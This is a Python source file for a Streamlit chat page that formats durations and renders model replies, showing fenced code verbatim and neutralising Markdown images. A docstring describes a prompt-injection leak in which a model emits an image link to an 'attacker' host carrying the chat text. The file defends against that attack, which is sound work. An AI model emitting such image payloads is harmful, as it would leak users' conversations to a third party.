"""Turning stored text into what the page shows: durations for people, model output made inert."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass

import streamlit as st

# A fence that opens a code block: three or more backticks (whose info string may not hold a
# backtick) or tildes, at the start of a line.
_FENCE_OPEN = re.compile(r"^(`{3,})([^`]*)$|^(~{3,})(.*)$")
# Between `!` and `[`, so Markdown's image syntax (`![alt](url)`, `![alt][ref]`) no longer
# matches whatever escapes surround it; invisible on the page.
_IMAGE_BREAK = "!\u200b["


def format_duration(seconds: int) -> str:
    if seconds < 60:
        return f"{seconds} s"
    units = (("d", 86400), ("h", 3600), ("min", 60), ("s", 1))
    parts = []
    remaining = seconds
    for name, size in units:
        if remaining >= size:
            amount, remaining = divmod(remaining, size)
            parts.append(f"{amount} {name}")
        if len(parts) == 2:
            break
    return " ".join(parts)


def inert_markdown(text: str) -> str:
    """Markdown in which no image is left: each `![alt](url)` reads `!` and then an ordinary
    link, which opens only when clicked (Streamlit gives links `rel="noopener noreferrer"`,
    and raw HTML is never enabled). A prompt-injected model could otherwise write
    `![x](https://attacker/?q=<chat text>)` and leak the conversation with no click at all."""
    return text.replace("![", _IMAGE_BREAK)


@dataclass(frozen=True)
class Block:
    """A run of a reply: Markdown prose, or the body of a fenced code block."""

    text: str
    code: bool = False
    language: str | None = None


def split_code_blocks(text: str) -> list[Block]:
    """Prose and fenced code blocks, in order. Code is shown verbatim with `st.code` (so
    `vec![1]` copies as written) and never goes through Markdown, so wherever this split
    differs from a Markdown parser's, the difference only changes looks, never safety."""
    blocks: list[Block] = []
    prose: list[str] = []
    lines = text.splitlines(keepends=True)
    index = 0
    while index < len(lines):
        opened = _FENCE_OPEN.match(lines[index].rstrip("\r\n"))
        if not opened:
            prose.append(lines[index])
            index += 1
            continue
        fence = opened.group(1) or opened.group(3)
        info = (opened.group(2) if opened.group(1) else opened.group(4)).strip()
        body: list[str] = []
        index += 1
        while index < len(lines) and not _closes(lines[index], fence):
            body.append(lines[index])
            index += 1
        index += 1  # the closing fence, or past the end
        if prose:
            blocks.append(Block("".join(prose)))
            prose = []
        blocks.append(
            Block(
                "".join(body).rstrip("\r\n"), code=True, language=info.split()[0] if info else None
            )
        )
    if prose or not blocks:
        blocks.append(Block("".join(prose)))
    return blocks


def _closes(line: str, fence: str) -> bool:
    stripped = line.strip()
    return stripped.startswith(fence) and stripped == fence[0] * len(stripped)


def show_reply(text: str) -> None:
    """Render a model reply: prose as inert Markdown, fenced code verbatim."""
    for block in split_code_blocks(text):
        if block.code:
            st.code(block.text, language=block.language)
        elif block.text.strip():
            st.markdown(inert_markdown(block.text))


def stream_reply(chunks: Iterable[str]) -> str:
    """Show a streaming reply as it arrives, rendered like a stored one; the full text.
    (`st.write_stream` would render the raw Markdown, images included, while it streams.)"""
    placeholder = st.empty()
    text = ""
    for chunk in chunks:
        if not chunk:
            continue
        text += chunk
        with placeholder.container():
            show_reply(text)
    with placeholder.container():
        show_reply(text)
    return text
